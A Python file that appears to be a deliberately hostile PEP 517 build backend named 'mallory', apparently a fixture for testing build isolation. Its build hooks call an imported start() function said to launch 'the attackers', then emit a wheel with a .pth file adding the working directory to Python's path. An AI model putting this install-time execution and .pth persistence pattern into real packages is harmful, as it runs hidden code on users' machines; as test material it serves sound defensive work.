"""A build backend that attacks, and then builds."""

import base64
import hashlib
import time
import zipfile
from pathlib import Path

from start import start

NAME = "mallory-1.0"


def get_requires_for_build_editable(config_settings=None):
    """Nothing but this file."""
    return []


def build_editable(directory, config_settings=None, metadata_directory=None):
    """A wheel without a file in it; a moment after the attackers were started."""
    start()
    time.sleep(2)
    files = {
        f"{NAME}.dist-info/METADATA": "Metadata-Version: 2.1\nName: mallory\nVersion: 1.0\n",
        f"{NAME}.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: backend\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        "mallory.pth": f"{Path.cwd()}\n",
    }
    lines = []
    with zipfile.ZipFile(Path(directory) / f"{NAME}-py3-none-any.whl", "w") as wheel:
        for name, text in files.items():
            wheel.writestr(name, text)
            digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
            lines.append(f"{name},sha256={digest},{len(text)}")
        wheel.writestr(f"{NAME}.dist-info/RECORD", "\n".join([*lines, f"{NAME}.dist-info/RECORD,,", ""]))
    return f"{NAME}-py3-none-any.whl"


build_wheel = build_editable
get_requires_for_build_wheel = get_requires_for_build_editable
